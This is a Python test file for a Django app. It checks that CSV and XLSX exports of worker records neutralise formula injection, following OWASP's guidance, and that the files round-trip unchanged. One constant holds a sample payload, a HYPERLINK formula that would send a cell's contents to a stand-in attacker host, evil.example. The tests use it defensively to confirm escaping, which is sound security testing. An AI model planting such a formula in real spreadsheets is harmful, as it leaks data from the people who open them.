"""Every spreadsheet export is safe to open (OWASP's rule against formula injection), and an
exported file imports back unchanged — phone numbers, which start with "+", included."""

import io

import openpyxl
import pytest
import tablib
from django.urls import reverse

from seva.base.spreadsheets import SafeCSV, SafeXLSX, escape_csv_cell, unescape_csv_cell
from seva.people.models import Worker
from seva.people.resources import WorkerResource
from tests.factories import seat_in

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_like_csv_cell_gets_an_apostrophe_and_loses_it_on_import(start):
    value = start + "1+1"
    assert escape_csv_cell(value) == "'" + value
    assert unescape_csv_cell(escape_csv_cell(value)) == value


def test_plain_text_and_numbers_are_left_alone():
    assert escape_csv_cell("Ram Kumar") == "Ram Kumar"
    assert escape_csv_cell(-5) == -5
    assert unescape_csv_cell("'quoted") == "'quoted"


def _worker(name):
    seat = seat_in("patna")
    return Worker.objects.create(name=name, phone="+919876543210", role="volunteer", district=seat.district)


def test_a_csv_export_of_workers_escapes_formulae_and_imports_back_unchanged(db):
    _worker(EVIL)
    text = SafeCSV().export_data(WorkerResource().export())
    assert "'=HYPERLINK" in text and "'+919876543210" in text
    result = WorkerResource().import_data(SafeCSV().create_dataset(text), dry_run=True)
    assert not result.has_errors() and not result.has_validation_errors()
    assert {row.import_type for row in result.rows} == {"skip"}  # nothing would change
    assert Worker.objects.get().name == EVIL


def test_an_xlsx_export_writes_text_as_text_and_numbers_as_numbers(db):
    dataset = tablib.Dataset([EVIL, "+919876543210", 12, "ctl\u0005char"], headers=["a", "b", "c", "d"])
    book = openpyxl.load_workbook(io.BytesIO(SafeXLSX().export_data(dataset)))
    cells = next(book.active.iter_rows(min_row=2))
    assert [cell.data_type for cell in cells] == ["s", "s", "n", "s"]
    assert cells[0].value == EVIL and cells[2].value == 12
    assert "\u0005" not in cells[3].value  # the export does not fail on a control character


def test_an_xlsx_export_of_workers_imports_back_unchanged(db):
    _worker(EVIL)
    data = SafeXLSX().export_data(WorkerResource().export())
    result = WorkerResource().import_data(SafeXLSX().create_dataset(data), dry_run=True)
    assert not result.has_errors() and not result.has_validation_errors()
    assert {row.import_type for row in result.rows} == {"skip"}


def test_the_admin_offers_only_csv_and_xlsx(client_as, state_admin):
    page = client_as(state_admin).get(reverse("admin:geo_mandal_import")).content.decode()
    assert ">csv<" in page and ">xlsx<" in page
    assert ">html<" not in page and ">json<" not in page
